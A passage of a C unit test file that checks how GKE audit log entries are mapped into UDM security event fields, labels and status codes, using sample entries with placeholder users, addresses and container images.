/* SPDX-License-Identifier: Apache-2.0 */
/* LogEntries of GKE: their fields, where these stand, and what is known of their objects. */
#include "tests/unit/udm/mapped.h"

#define COUNT(table) (sizeof(table) / sizeof *(table))

/* An entry of Cloud Logging; quotes are written as '. */
static struct mapped map_cut_entry(const char *entry, struct udm_cut cut)
{
    struct buffer text = {0};
    struct udm_source source = {.log_type = SLICE("K8S_AUDIT"), .cluster = SLICE("acme/eu/blue"), .received = CLOCK_SECOND};

    buffer_append_text(&text, entry);
    double_quotes(&text);
    struct mapped mapped = read_text(buffer_slice(&text));
    udm_gke_record(&mapped.record, &source, mapped.tree, &cut);
    buffer_free(&text);
    return mapped;
}

static struct mapped map_entry(const char *entry)
{
    return map_cut_entry(entry, (struct udm_cut){0});
}

/* An entry with that in its protoPayload. */
static struct mapped map_payload(const char *payload)
{
    struct buffer text = {0};
    buffer_printf(&text, "{'protoPayload':{'serviceName':'k8s.io',%s}}", payload);
    struct mapped mapped = map_entry(text.bytes);
    buffer_free(&text);
    return mapped;
}

static struct mapped map_sample(const char *name)
{
    static const struct udm_source source = {.cluster = {"c", 1}};
    char path[128];
    snprintf(path, sizeof path, "tests/data/udm/gke/%s.json", name);
    struct buffer text = file_text(path);
    struct mapped mapped = read_text(slice_trim(buffer_slice(&text)));
    udm_gke_record(&mapped.record, &source, mapped.tree, &(struct udm_cut){0});
    buffer_free(&text);
    return mapped;
}

static void assert_enum(const struct mapped *mapped, const char *message, const char *field, const char *path, const char *expected)
{
    const struct udm_enum *values = udm_field_find(udm_message_type_find(message), slice_of(field))->enumeration;
    assert_string_equal(udm_enum_name(values, (int32_t)udm_record_int(&mapped->record, path)), expected);
}

/* The value's path in the entry. */
static void assert_path(const struct json_node *origin, const char *expected)
{
    struct buffer path = {0};
    if (origin)
        json_path(origin, &path);
    buffer_append_text(&path, "");
    assert_string_equal(path.bytes, expected);
    buffer_free(&path);
}

static void assert_label_path(const struct mapped *mapped, const char *key, const char *expected)
{
    struct udm_value value;
    assert_true(udm_record_labels(&mapped->record, key, &value, 1) > 0);
    assert_path(value.origin, expected);
}

static void assert_field_path(const struct mapped *mapped, const char *dotted, const char *expected)
{
    const struct udm_message *message = mapped->record.root;
    struct udm_values values = {0};
    while (*dotted) {
        size_t length = strcspn(dotted, ".");
        values = udm_message_get(message, udm_field_find(udm_message_type_of(message), slice_make(dotted, length)));
        assert_true(values.count > 0);
        message = dotted[length] ? values.items[0].message : NULL;
        dotted += length + (dotted[length] == '.');
    }
    assert_path(values.items[0].origin, expected);
}

static const struct json_node *additional(const struct mapped *mapped, const char *key)
{
    struct udm_values fields = udm_message_get(mapped->record.root, udm_field_find(udm_event_type(), SLICE("additional")));
    return fields.count ? json_member(fields.items[0].json, key) : NULL;
}

static const char whole_entry[] =
    "{'insertId':'id-1','logName':'projects/acme/logs/cloudaudit.googleapis.com%2Factivity','severity':'NOTICE','trace':'t',"
    "'operation':{'id':'op','producer':'k8s.io','first':true,'last':false},"
    "'resource':{'type':'k8s_cluster','labels':{'project_id':'acme','location':'eu','cluster_name':'blue'}},"
    "'timestamp':'2026-01-02T03:04:05.000001002Z','receiveTimestamp':'2026-01-02 03:04:06',"
    "'labels':{'authorization.k8s.io/decision':'allow','authorization.k8s.io/reason':'why','command.gke.io/dryRun':'All',"
    "'mutation.webhook.admission.k8s.io/round_0_index_0':'{\\\"webhook\\\":\\\"hook\\\",\\\"mutated\\\":true}','k8s.io/deprecated':'true',"
    "'pod-security.kubernetes.io/enforce-policy':'baseline:latest'},"
    "'protoPayload':{'@type':'type.googleapis.com/google.cloud.audit.AuditLog','serviceName':'k8s.io',"
    "'methodName':'io.k8s.batch.v1.cronjobs.create','resourceName':'batch/v1/namespaces/n/cronjobs/c',"
    "'authenticationInfo':{'principalEmail':'eve@example.com','principalSubject':'user:eve@example.com',"
    "'serviceAccountDelegationInfo':[{'firstPartyPrincipal':{'principalEmail':'a@x'}},{'principalSubject':'serviceAccount:b@x'}]},"
    "'requestMetadata':{'callerIp':'192.0.2.7','callerSuppliedUserAgent':'kubectl'},"
    "'authorizationInfo':[{'granted':true,'permission':'io.k8s.batch.v1.cronjobs.create','resource':'batch/v1/x'}],"
    "'status':{'code':9,'message':'no'},"
    "'request':{'@type':'batch.k8s.io/v1.CronJob','spec':{'schedule':'* * * * *'}},"
    "'response':{'@type':'core.k8s.io/v1.Status','status':'Failure','reason':'Invalid','code':422,'message':'long','details':{'causes':[{'field':'f'}]}}}}";

static void test_fields_of_an_entry(void **state)
{
    (void)state;
    static const char *const rows[][3] = {
        {"metadata.log_type", "GKE_CONTROLPLANE", ""},
        {"metadata.product_event_type", "io.k8s.batch.v1.cronjobs.create", "protoPayload.methodName"},
        {"metadata.product_log_id", "id-1", "insertId"},
        {"metadata.description", "ResponseComplete", ""},
        {"metadata.vendor_name", "Google Cloud Platform", ""},
        {"metadata.product_name", "Google Kubernetes Engine", ""},
        {"network.http.method", "POST", "protoPayload.methodName"},
        {"network.http.user_agent", "kubectl", "protoPayload.requestMetadata.callerSuppliedUserAgent"},
        {"target.url", "/apis/batch/v1/namespaces/n/cronjobs/c", "protoPayload.resourceName"},
        {"target.application", "k8s.io", "protoPayload.serviceName"},
        {"target.cloud.project.name", "acme", "resource.labels.project_id"},
        {"target.location.name", "eu", "resource.labels.location"},
        {"target.resource.name", "c", "protoPayload.resourceName"},
        {"target.resource.resource_subtype", "cronjobs", "protoPayload.resourceName"},
        {"target.resource_ancestors.name", "acme/eu/blue", ""},
        {"principal.user.userid", "eve@example.com", "protoPayload.authenticationInfo.principalEmail"},
        {"principal.user.user_display_name", "eve@example.com", "protoPayload.authenticationInfo.principalEmail"},
        {"principal.user.email_addresses", "eve@example.com", "protoPayload.authenticationInfo.principalEmail"},
        {"principal.ip", "192.0.2.7", "protoPayload.requestMetadata.callerIp"},
        {"security_result.action_details", "create", "protoPayload.methodName"},
        {"security_result.category_details", "projects/acme/logs/cloudaudit.googleapis.com%2Factivity", "logName"},
        {"security_result.description", "why", "labels[\"authorization.k8s.io/reason\"]"},
        {"security_result.summary", "no", "protoPayload.status.message"},
    };
    struct mapped mapped = map_entry(whole_entry);
    for (size_t i = 0; i < COUNT(rows); i++) {
        assert_field(&mapped, rows[i][0], rows[i][1]);
        assert_field_path(&mapped, rows[i][0], rows[i][2]);
    }
    assert_int_equal(udm_record_int(&mapped.record, "network.http.response_code"), 422);
    assert_enum(&mapped, "SecurityResult", "action", "security_result.action", "FAIL");
    assert_enum(&mapped, "Metadata", "event_type", "metadata.event_type", "RESOURCE_CREATION");
    assert_enum(&mapped, "Resource", "resource_type", "target.resource.resource_type", "TASK");
    unmap(&mapped);
}

static void test_labels_of_an_entry(void **state)
{
    (void)state;
    static const char *const rows[][3] = {
        {"verb", "create", "protoPayload.methodName"},
        {"resource", "cronjobs", "protoPayload.resourceName"},
        {"namespace", "n", "protoPayload.resourceName"},
        {"api_group", "batch", "protoPayload.resourceName"},
        {"api_version", "v1", "protoPayload.resourceName"},
        {"code", "422", "protoPayload.response.code"},
        {"grpc_code", "9", "protoPayload.status.code"},
        {"response_status", "Failure", "protoPayload.response.status"},
        {"response_reason", "Invalid", "protoPayload.response.reason"},
        {"response_kind", "Status", "protoPayload.response[\"@type\"]"},
        {"decision", "allow", "labels[\"authorization.k8s.io/decision\"]"},
        {"reason", "why", "labels[\"authorization.k8s.io/reason\"]"},
        {"dry_run", "All", "labels[\"command.gke.io/dryRun\"]"},
        {"mutated_by", "hook", "labels[\"mutation.webhook.admission.k8s.io/round_0_index_0\"]"},
        {"pod_security_policy", "baseline:latest", "labels[\"pod-security.kubernetes.io/enforce-policy\"]"},
        {"deprecated", "true", "labels[\"k8s.io/deprecated\"]"},
        {"user_kind", "user", "protoPayload.authenticationInfo.principalEmail"},
        {"kind", "CronJob", "protoPayload.request[\"@type\"]"},
        {"schedule", "* * * * *", "protoPayload.request.spec.schedule"},
        {"cluster", "acme/eu/blue", ""},
        {"stage", "ResponseComplete", ""},
        {"object_state", "present", ""},
    };
    struct mapped mapped = map_entry(whole_entry);
    for (size_t i = 0; i < COUNT(rows); i++) {
        assert_label(&mapped, rows[i][0], rows[i][1]);
        assert_label_path(&mapped, rows[i][0], rows[i][2]);
    }
    assert_label(&mapped, "level", "");
    unmap(&mapped);
}

static void test_additional_fields_hold_what_has_no_field_of_its_own(void **state)
{
    (void)state;
    static const char *const rows[][2] = {
        {"namespace", "n"},        {"resource_name", "batch/v1/namespaces/n/cronjobs/c"}, {"cluster_name", "blue"}, {"operation", "op"},
        {"operation_first", "true"}, {"operation_last", "false"}, {"operation_producer", "k8s.io"}, {"severity", "NOTICE"}, {"trace", "t"},
        {"cause_field", "f"},
    };
    struct mapped mapped = map_entry(whole_entry);
    for (size_t i = 0; i < COUNT(rows); i++)
        assert_true(slice_is(json_string(additional(&mapped, rows[i][0])), rows[i][1]));
    unmap(&mapped);
}

static void test_a_record_of_an_entry_can_be_written(void **state)
{
    (void)state;
    struct mapped mapped = map_entry(whole_entry);
    struct buffer text = {0};
    struct json_writer *writer = json_writer_new(&text, false);
    udm_record_write(&mapped.record, writer);
    json_writer_free(writer);
    assert_true(slice_find(buffer_slice(&text), SLICE("\"additional\":{\"namespace\":\"n\",\"resource_name\":")) >= 0);
    buffer_free(&text);
    unmap(&mapped);
}

/* All values of labels[key] of a message, joined by " | ". */
static void assert_plain_labels(const struct udm_message *message, const char *list, const char *key, const char *expected)
{
    struct udm_values labels = udm_message_get(message, udm_field_find(udm_message_type_of(message), slice_of(list)));
    struct buffer text = {0};
    for (size_t i = 0; i < labels.count; i++) {
        const struct udm_message_type *type = udm_message_type_of(labels.items[i].message);
        struct udm_values keys = udm_message_get(labels.items[i].message, udm_field_find(type, SLICE("key")));
        struct udm_values values = udm_message_get(labels.items[i].message, udm_field_find(type, SLICE("value")));
        if (!slice_is(keys.items[0].string, key))
            continue;
        buffer_append_text(&text, text.length ? " | " : "");
        buffer_append_slice(&text, values.items[0].string);
    }
    assert_true(slice_is(buffer_slice(&text), expected));
    buffer_free(&text);
}

static void test_subject_delegation_and_permissions_are_lists_of_labels(void **state)
{
    (void)state;
    struct mapped mapped = map_entry(whole_entry);
    const struct udm_message *attribute = message_at(&mapped, (const char *const[]){"principal", "user", "attribute"}, 3);
    const struct udm_message *result = message_at(&mapped, (const char *const[]){"security_result"}, 1);
    assert_plain_labels(attribute, "labels", "principal_subject", "user:eve@example.com");
    assert_plain_labels(attribute, "labels", "delegation", "a@x | serviceAccount:b@x");
    assert_plain_labels(result, "detection_fields", "permission", "io.k8s.batch.v1.cronjobs.create");
    assert_plain_labels(result, "detection_fields", "resource", "batch/v1/x");
    assert_plain_labels(result, "detection_fields", "command.gke.io/dryRun", "All");
    unmap(&mapped);
}

static void test_all_names_of_the_log_type_are_there(void **state)
{
    (void)state;
    struct mapped mapped = map_entry("{}");
    const struct udm_message *labels = message_at(&mapped, (const char *const[]){"metadata", "base_labels"}, 2);
    struct udm_values names = udm_message_get(labels, udm_field_find(udm_message_type_of(labels), SLICE("log_types")));
    static const char *const expected[] = {"GKE_CONTROLPLANE", "GCP_CLOUDAUDIT", "KUBERNETES_NODE"};
    assert_int_equal(names.count, COUNT(expected));
    for (size_t i = 0; i < COUNT(expected); i++)
        assert_true(slice_is(names.items[i].string, expected[i]));
    unmap(&mapped);
}

static clock_nanos time_of(const struct mapped *mapped, const char *field)
{
    const struct udm_message *metadata = message_at(mapped, (const char *const[]){"metadata"}, 1);
    struct udm_values values = udm_message_get(metadata, udm_field_find(udm_message_type_of(metadata), slice_of(field)));
    return values.count ? values.items[0].time : 0;
}

static void test_times_have_nanoseconds_a_blank_for_the_t_and_no_zone(void **state)
{
    (void)state;
    struct mapped mapped = map_entry(whole_entry);
    clock_nanos expected = 0;
    assert_true(clock_parse_rfc3339(SLICE("2026-01-02T03:04:05Z"), &expected));
    assert_true(time_of(&mapped, "event_timestamp") == expected + 1002);
    assert_true(time_of(&mapped, "collected_timestamp") == expected + CLOCK_SECOND);
    assert_true(time_of(&mapped, "ingested_timestamp") == CLOCK_SECOND);
    unmap(&mapped);
    mapped = map_entry("{'timestamp':'yesterday','receiveTimestamp':true}");
    assert_true(time_of(&mapped, "event_timestamp") == 0);
    assert_true(time_of(&mapped, "collected_timestamp") == 0);
    unmap(&mapped);
}

static void test_a_resource_name_tells_the_object_and_the_path(void **state)
{
    (void)state;
    static const struct { const char *method, *name, *url, *group, *version, *namespace, *resource, *object, *subresource, *verb; } rows[] = {
        {"io.k8s.core.v1.pods.exec.create", "core/v1/namespaces/n/pods/p/exec", "/api/v1/namespaces/n/pods/p/exec", "", "v1", "n", "pods", "p", "exec", "create"},
        {"io.k8s.core.v1.pods.create", "core/v1/namespaces/n/pods", "/api/v1/namespaces/n/pods", "", "v1", "n", "pods", "", "", "create"},
        {"io.k8s.core.v1.nodes.patch", "core/v1/nodes/w", "/api/v1/nodes/w", "", "v1", "", "nodes", "w", "", "patch"},
        {"io.k8s.core.v1.nodes.list", "core/v1/nodes", "/api/v1/nodes", "", "v1", "", "nodes", "", "", "list"},
        {"io.k8s.authorization.rbac.v1.clusterroles.update", "rbac.authorization.k8s.io/v1/clusterroles/system:x",
         "/apis/rbac.authorization.k8s.io/v1/clusterroles/system:x", "rbac.authorization.k8s.io", "v1", "", "clusterroles", "system:x", "", "update"},
        {"io.k8s.apps.v1.deployments.scale.update", "apps/v1/namespaces/n/deployments/d/scale", "/apis/apps/v1/namespaces/n/deployments/d/scale", "apps", "v1",
         "n", "deployments", "d", "scale", "update"},
        {"com.example.alpha.things.create", "example.com/alpha/namespaces/n/things/t", "/apis/example.com/alpha/namespaces/n/things/t", "example.com", "alpha",
         "n", "things", "t", "", "create"},
        {"io.k8s.core.v1.namespaces.delete", "core/v1/namespaces/n", "/api/v1/namespaces/n", "", "v1", "n", "namespaces", "n", "", "delete"},
        {"io.k8s.core.v1.namespaces.finalize.update", "core/v1/namespaces/n/finalize", "/api/v1/namespaces/n/finalize", "", "v1", "n", "namespaces", "n",
         "finalize", "update"},
        {"io.k8s.core.v1.pods.list", "core/v1/namespaces/n/pods", "/api/v1/namespaces/n/pods", "", "v1", "n", "pods", "", "", "list"},
        {"io.k8s.core.v1.namespaces.list", "core/v1/namespaces", "/api/v1/namespaces", "", "v1", "", "namespaces", "", "", "list"},
        {"com.example.v1.namespaces.get", "example.com/v1/namespaces/x", "/apis/example.com/v1/namespaces/x", "example.com", "v1", "", "namespaces", "x", "", "get"},
        {"com.example.v1.namespaces.get", "example.com/v1/namespaces/n/namespaces/x", "/apis/example.com/v1/namespaces/n/namespaces/x", "example.com", "v1", "n",
         "namespaces", "x", "", "get"},
        {"io.k8s.core.v1.nodes.proxy.get", "core/v1/nodes/w/proxy/a/b/c/d/e", "/api/v1/nodes/w/proxy/a/b/c/d/e", "", "v1", "", "nodes", "w", "proxy", "get"},
        {"io.k8s.get", "readyz", "/readyz", "", "", "", "", "", "", "get"},
        {"io.k8s.get", "openapi/v3/apis/apps/v1", "/openapi/v3/apis/apps/v1", "", "", "", "", "", "", "get"},
        {"io.k8s.post", "/a/v1/b", "/a/v1/b", "", "", "", "", "", "", "post"},
        {"", "batch/v1/namespaces/n/jobs/j", "/apis/batch/v1/namespaces/n/jobs/j", "batch", "v1", "n", "jobs", "j", "", ""},
        {"", "logs/kube/apiserver", "/logs/kube/apiserver", "", "", "", "", "", "", ""},
        {"io.k8s.batch.v1.cronjobs.create", "batch/v1/namespaces/n/cr%6fnjobs/c%zz", "/apis/batch/v1/namespaces/n/cronjobs/c%zz", "batch", "v1", "n", "cronjobs",
         "c%zz", "", "create"},
        {"io.k8s.batch.v1.jobs.create", "", "", "", "", "", "", "", "", "create"},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        char payload[512];
        snprintf(payload, sizeof payload, "'methodName':'%s','resourceName':'%s'", rows[i].method, rows[i].name);
        struct mapped mapped = map_payload(payload);
        assert_field(&mapped, "target.url", rows[i].url);
        assert_field(&mapped, "target.resource.name", rows[i].object);
        assert_field(&mapped, "target.resource.resource_subtype", rows[i].resource);
        assert_label(&mapped, "api_group", rows[i].group);
        assert_label(&mapped, "api_version", rows[i].version);
        assert_label(&mapped, "namespace", rows[i].namespace);
        assert_label(&mapped, "resource", rows[i].resource);
        assert_label(&mapped, "subresource", rows[i].subresource);
        assert_label(&mapped, "verb", rows[i].verb);
        unmap(&mapped);
    }
}

static void test_a_name_and_uid_that_the_resource_name_lacks_are_the_answers(void **state)
{
    (void)state;
    struct mapped mapped = map_payload("'methodName':'io.k8s.core.v1.pods.create','resourceName':'core/v1/namespaces/n/pods',"
                                       "'request':{'metadata':{'generateName':'p-'}},'response':{'metadata':{'name':'p-1','uid':'u'}}");
    assert_field(&mapped, "target.resource.name", "p-1");
    assert_field(&mapped, "target.resource.product_object_id", "u");
    assert_field_path(&mapped, "target.resource.name", "protoPayload.response.metadata.name");
    unmap(&mapped);
}

static void test_users_are_taken_whole_and_told_apart(void **state)
{
    (void)state;
    static const char *const rows[][4] = {
        {"system:serviceaccount:kube-system:x", "serviceaccount", "kube-system", ""},
        {"system:node:w@x", "node", "", ""},
        {"system:anonymous", "anonymous", "", ""},
        {"system:kube-scheduler", "system", "", ""},
        {"eve@example.com", "user", "", "eve@example.com"},
        {"", "anonymous", "", ""},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        char payload[256];
        snprintf(payload, sizeof payload, "'authenticationInfo':{'principalEmail':'%s'}", rows[i][0]);
        struct mapped mapped = map_payload(payload);
        assert_field(&mapped, "principal.user.userid", rows[i][0]);
        assert_field(&mapped, "principal.user.email_addresses", rows[i][3]);
        assert_label(&mapped, "user_kind", rows[i][1]);
        assert_label(&mapped, "service_account_namespace", rows[i][2]);
        unmap(&mapped);
    }
}

static void test_an_address_is_taken_in_either_spelling_and_once(void **state)
{
    (void)state;
    struct mapped mapped = map_payload("'requestMetadata':{'callerIP':'192.0.2.8'}");
    assert_field(&mapped, "principal.ip", "192.0.2.8");
    unmap(&mapped);
    mapped = map_payload("'requestMetadata':{'callerIP':'192.0.2.8','callerIp':'192.0.2.7'}");
    const struct udm_message *principal = message_at(&mapped, (const char *const[]){"principal"}, 1);
    assert_field(&mapped, "principal.ip", "192.0.2.7");
    assert_int_equal(udm_message_get(principal, udm_field_find(udm_message_type_of(principal), SLICE("ip"))).count, 1);
    unmap(&mapped);
}

static void test_codes_of_grpc_stand_for_statuses_of_http(void **state)
{
    (void)state;
    static const struct { const char *payload; int code; const char *grpc, *action; } rows[] = {
        {"'x':1", 200, "0", "ALLOW"},
        {"'status':{}", 200, "0", "ALLOW"},
        {"'status':{'code':1}", 499, "1", "FAIL"},
        {"'status':{'code':2}", 500, "2", "FAIL"},
        {"'status':{'code':3}", 400, "3", "FAIL"},
        {"'status':{'code':4}", 504, "4", "FAIL"},
        {"'status':{'code':5}", 404, "5", "FAIL"},
        {"'status':{'code':6}", 409, "6", "FAIL"},
        {"'status':{'code':7}", 403, "7", "BLOCK"},
        {"'status':{'code':8}", 429, "8", "FAIL"},
        {"'status':{'code':9}", 400, "9", "FAIL"},
        {"'status':{'code':10}", 409, "10", "FAIL"},
        {"'status':{'code':11}", 400, "11", "FAIL"},
        {"'status':{'code':12}", 501, "12", "FAIL"},
        {"'status':{'code':13}", 500, "13", "FAIL"},
        {"'status':{'code':14}", 503, "14", "FAIL"},
        {"'status':{'code':15}", 500, "15", "FAIL"},
        {"'status':{'code':16}", 401, "16", "BLOCK"},
        {"'status':{'code':99}", 500, "99", "FAIL"},
        {"'status':{'code':'7'}", 403, "7", "BLOCK"},
        {"'status':{'code':'OK'}", 0, "", "UNKNOWN_ACTION"},
        {"'status':{'code':-1}", 0, "", "UNKNOWN_ACTION"},
        {"'status':{'code':9},'response':{'kind':'Status','code':422}", 422, "9", "FAIL"},
        {"'status':{'code':9},'response':{'@type':'core.k8s.io/v1.Status','code':422}", 422, "9", "FAIL"},
        {"'status':{'code':9},'response':{'kind':'Thing','code':422}", 400, "9", "FAIL"},
        {"'response':{'kind':'Status','status':'Success'}", 200, "0", "ALLOW"},
        {"'methodName':'io.k8s.core.v1.pods.exec.create','resourceName':'core/v1/namespaces/n/pods/p/exec'", 101, "0", "ALLOW"},
        {"'methodName':'io.k8s.core.v1.pods.attach.get','resourceName':'core/v1/namespaces/n/pods/p/attach'", 101, "0", "ALLOW"},
        {"'methodName':'io.k8s.core.v1.pods.exec.create','resourceName':'core/v1/namespaces/n/pods/p/exec','status':{'code':7}", 403, "7", "BLOCK"},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        char code[16] = "";
        struct mapped mapped = map_payload(rows[i].payload);
        if (rows[i].code)
            snprintf(code, sizeof code, "%d", rows[i].code);
        assert_int_equal(udm_record_int(&mapped.record, "network.http.response_code"), rows[i].code);
        assert_label(&mapped, "code", code);
        assert_label(&mapped, "grpc_code", rows[i].grpc);
        assert_enum(&mapped, "SecurityResult", "action", "security_result.action", rows[i].action);
        unmap(&mapped);
    }
}

static void test_a_decision_comes_from_the_labels_else_from_all_authorizations(void **state)
{
    (void)state;
    static const struct { const char *entry, *decision, *action; } rows[] = {
        {"{'protoPayload':{}}", "", "ALLOW"},
        {"{'protoPayload':{'authorizationInfo':[]}}", "", "ALLOW"},
        {"{'protoPayload':{'authorizationInfo':[{'granted':true}]}}", "allow", "ALLOW"},
        {"{'protoPayload':{'authorizationInfo':[{'granted':true},{'granted':false}]}}", "forbid", "BLOCK"},
        {"{'protoPayload':{'authorizationInfo':[{'permission':'p'}]}}", "allow", "ALLOW"},
        {"{'protoPayload':{'authorizationInfo':[{'permission':'p'}],'status':{'code':7}}}", "forbid", "BLOCK"},
        {"{'protoPayload':{'authorizationInfo':[{'granted':true}],'status':{'code':7}}}", "allow", "BLOCK"},
        {"{'labels':{'authorization.k8s.io/decision':'allow'},'protoPayload':{'authorizationInfo':[{'granted':false}]}}", "allow", "ALLOW"},
        {"{'labels':{'authorization.k8s.io/decision':'forbid'},'protoPayload':{'authorizationInfo':[{'granted':true}]}}", "forbid", "BLOCK"},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct mapped mapped = map_entry(rows[i].entry);
        assert_label(&mapped, "decision", rows[i].decision);
        assert_enum(&mapped, "SecurityResult", "action", "security_result.action", rows[i].action);
        unmap(&mapped);
    }
}

static void test_a_decision_that_broke_off_is_none(void **state)
{
    (void)state;
    struct mapped mapped = map_cut_entry("{'protoPayload':{'authorizationInfo':[{'permission':'p", (struct udm_cut){.transport = true});
    assert_label(&mapped, "decision", "");
    unmap(&mapped);
    mapped = map_cut_entry("{'protoPayload':{'authorizationInfo':[{'granted':true},{'permission':'p", (struct udm_cut){.transport = true});
    assert_label(&mapped, "decision", "allow");
    unmap(&mapped);
}

static void test_only_a_write_to_an_object_is_a_dry_run(void **state)
{
    (void)state;
    static const char *const rows[][3] = {
        {"io.k8s.core.v1.pods.create", "pods", "All"},
        {"io.k8s.core.v1.pods.exec.create", "pods/p/exec", ""},
        {"io.k8s.core.v1.pods.get", "pods/p", ""},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        char entry[256];
        snprintf(entry, sizeof entry, "{'labels':{'command.gke.io/dryRun':'All'},'protoPayload':{'methodName':'%s','resourceName':'core/v1/namespaces/n/%s'}}",
                 rows[i][0], rows[i][1]);
        struct mapped mapped = map_entry(entry);
        assert_label(&mapped, "dry_run", rows[i][2]);
        unmap(&mapped);
    }
}

/* A request on cronjobs with that in its protoPayload. */
static struct mapped map_cronjob(const char *verb, const char *rest)
{
    struct buffer payload = {0};
    buffer_printf(&payload, "'methodName':'io.k8s.batch.v1.cronjobs.%s','resourceName':'batch/v1/namespaces/n/cronjobs/c'%s", verb, rest);
    struct mapped mapped = map_payload(payload.bytes);
    buffer_free(&payload);
    return mapped;
}

#define POD_SPEC "'spec':{'jobTemplate':{'spec':{'template':{'spec':{'containers':[{'image':'alpine','command':['sh','-c']}]}}}}}"
#define POD_PATH "spec.jobTemplate.spec.template.spec.containers[0]"

static void test_bodies_are_read_like_those_of_audit_events(void **state)
{
    (void)state;
    struct mapped mapped = map_cronjob("create", ",'request':{'@type':'batch.k8s.io/v1.CronJob'," POD_SPEC "},"
                                                 "'response':{'@type':'batch.k8s.io/v1.CronJob'," POD_SPEC "}");
    assert_label(&mapped, "image", "alpine");
    assert_label_path(&mapped, "image", "protoPayload.request." POD_PATH ".image");
    assert_label(&mapped, "command", "sh -c");
    assert_label(&mapped, "kind", "CronJob");
    assert_label(&mapped, "patch_type", "");
    assert_label(&mapped, "response.image", "alpine");
    assert_label_path(&mapped, "response.image", "protoPayload.response." POD_PATH ".image");
    assert_label(&mapped, "response_kind", "CronJob");
    assert_int_equal(mapped.record.knowledge[UDM_ORIGIN_RESPONSE_OBJECT], UDM_KNOWN);
    unmap(&mapped);
    mapped = map_cronjob("delete", ",'request':{'@type':'meta.k8s.io/__internal.DeleteOptions','propagationPolicy':'Orphan'}");
    assert_label(&mapped, "kind", "DeleteOptions");
    assert_label(&mapped, "propagation_policy", "Orphan");
    unmap(&mapped);
}

static void test_a_patch_is_merged_or_an_array_of_operations(void **state)
{
    (void)state;
#define OPERATIONS \
    "[{'op':'add','path':'/spec/jobTemplate/spec/template/spec/containers/0/image','value':'kali'}," \
    "{'op':'test','path':'/spec/jobTemplate/spec/template/spec/containers/1/image','value':'nmap'}]"
    static const struct { const char *request, *image, *type; } rows[] = {
        {"{'@type':'k8s.io/Patch'," POD_SPEC "}", "alpine", "merge"},
        {"{'@type':'k8s.io/Patch','$retainKeys':[]," POD_SPEC "}", "alpine", "strategic"},
        {"{'@type':'k8s.io/Patch','apiVersion':'batch/v1','kind':'CronJob'," POD_SPEC "}", "alpine", "apply"},
        {"{'@type':'k8s.io/Patch','value':" OPERATIONS "}", "kali", "json"},
        {"{'value':" OPERATIONS "}", "kali", "json"},
        {"{'@type':'k8s.io/Patch','value':" OPERATIONS "," POD_SPEC "}", "kali | alpine", "json | merge"},
        {OPERATIONS, "kali", "json"},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct buffer rest = {0};
        buffer_printf(&rest, ",'request':%s", rows[i].request);
        struct mapped mapped = map_cronjob("patch", rest.bytes);
        assert_label(&mapped, "image", rows[i].image);
        assert_label(&mapped, "patch_type", rows[i].type);
        assert_label(&mapped, "object_state", "present");
        buffer_free(&rest);
        unmap(&mapped);
    }
    struct mapped mapped = map_cronjob("create", ",'request':{'value':" OPERATIONS "}");
    assert_label(&mapped, "image", "");
    unmap(&mapped);
    mapped = map_cronjob("patch", ",'request':{'@type':'k8s.io/Patch','value':" OPERATIONS "}");
    assert_label_path(&mapped, "image", "protoPayload.request.value[0].value");
    unmap(&mapped);
}

static void test_what_an_entry_does_not_show_is_unknown(void **state)
{
    (void)state;
#define SECRET "'methodName':'io.k8s.core.v1.secrets.create','resourceName':'core/v1/namespaces/n/secrets/s'"
#define TOKEN "'methodName':'io.k8s.core.v1.serviceaccounts.token.create','resourceName':'core/v1/namespaces/n/serviceaccounts/s/token'"
#define ACCOUNT "'methodName':'io.k8s.core.v1.serviceaccounts.create','resourceName':'core/v1/namespaces/n/serviceaccounts/s'"
#define CREATE "'methodName':'io.k8s.batch.v1.cronjobs.create','resourceName':'batch/v1/namespaces/n/cronjobs/c'"
#define PATCH "'methodName':'io.k8s.batch.v1.cronjobs.patch','resourceName':'batch/v1/namespaces/n/cronjobs/c'"
    static const struct { const char *payload, *state; bool known; } rows[] = {
        {CREATE ",'request':{'spec':{}}", "present", true},
        {CREATE, "missing", false},
        {CREATE ",'request':{'@type':'batch.k8s.io/v1.CronJob'}", "missing", false},
        {CREATE ",'status':{'code':7}", "rejected", false},
        {CREATE ",'status':{'code':16}", "rejected", false},
        {CREATE ",'status':{'code':3}", "rejected", false},
        {CREATE ",'status':{'code':13}", "rejected", false},
        {CREATE ",'status':{'code':3},'request':{'spec':{}}", "present", true},
        {CREATE ",'request':'skipped'", "truncated", false},
        {PATCH ",'request':{'@type':'k8s.io/Patch'}", "missing", false},
        {PATCH ",'request':{'@type':'k8s.io/Patch','value':[{'op':'copy','from':'/spec/a','path':'/spec/b'}]}", "unresolved", false},
        {"'methodName':'io.k8s.batch.v1.cronjobs.delete','resourceName':'batch/v1/namespaces/n/cronjobs/c'", "none", true},
        {"'methodName':'io.k8s.batch.v1.cronjobs.list','resourceName':'batch/v1/namespaces/n/cronjobs'", "none", true},
        {"'methodName':'io.k8s.core.v1.pods.exec.create','resourceName':'core/v1/namespaces/n/pods/p/exec'", "none", true},
        {"'methodName':'io.k8s.get','resourceName':'readyz'", "none", true},
        {SECRET, "level", false},
        {SECRET ",'request':{'data':{'k':'v'}}", "present", true},
        {TOKEN, "level", false},
        {ACCOUNT, "missing", false},
        {"'x':0", "missing", false},
    };
    for (size_t i = 0; i < COUNT(rows); i++) {
        struct mapped mapped = map_payload(rows[i].payload);
        assert_label(&mapped, "object_state", rows[i].state);
        assert_int_equal(mapped.record.knowledge[UDM_ORIGIN_REQUEST_OBJECT], rows[i].known ? UDM_KNOWN : UDM_UNKNOWN);
        assert_int_equal(mapped.record.knowledge[UDM_ORIGIN_EVENT], UDM_KNOWN);
        unmap(&mapped);
    }
    struct mapped mapped = map_entry("{'labels':{'audit.k8s.io/truncated':'true'},'protoPayload':{" CREATE "}}");
    assert_label(&mapped, "object_state", "truncated");
    assert_label(&mapped, "truncated", "true");
    unmap(&mapped);
}

static void assert_knowledge(const struct mapped *mapped, enum udm_origin origin, enum udm_knowledge expected)
{
    assert_int_equal(mapped->record.knowledge[origin], expected);
}

static void test_an_entry_that_breaks_off_is_mapped_as_far_as_it_goes(void **state)
{
    (void)state;
    const struct udm_cut cut = {.transport = true};
